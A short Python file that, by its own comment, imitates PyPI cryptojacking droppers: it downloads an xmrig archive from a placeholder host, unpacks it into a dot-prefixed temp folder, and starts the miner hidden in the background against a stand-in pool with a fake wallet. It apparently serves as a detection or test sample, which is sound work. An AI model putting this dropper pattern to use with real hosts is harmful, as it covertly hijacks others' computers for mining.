# Imitates PyPI cryptojacking droppers (e.g. the 2018-2022 "xmrig in a typosquat" cases): fetch xmrig, start it hidden against a Monero pool.
import os
import stat
import subprocess
import tarfile
import tempfile
import urllib.request

RELEASE = "https://downloads.example.invalid/xmrig-6.21.0-linux-static-x64.tar.gz"
WALLET = "4AFakeWa11etAddressForTestsFakeWa11etAddressForTestsFakeWa11etAddressForTestsFakeWa11etAddressF"


def start():
    workdir = tempfile.mkdtemp(prefix=".cache-")
    archive = os.path.join(workdir, "x.tgz")
    urllib.request.urlretrieve(RELEASE, archive)
    with tarfile.open(archive) as tar:
        tar.extractall(workdir)
    binary = os.path.join(workdir, "xmrig")
    os.chmod(binary, os.stat(binary).st_mode | stat.S_IEXEC)
    subprocess.Popen(
        [binary, "-o", "pool.example.invalid:3333", "-u", WALLET, "--donate-level=1", "--cpu-max-threads-hint=50", "--background"],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
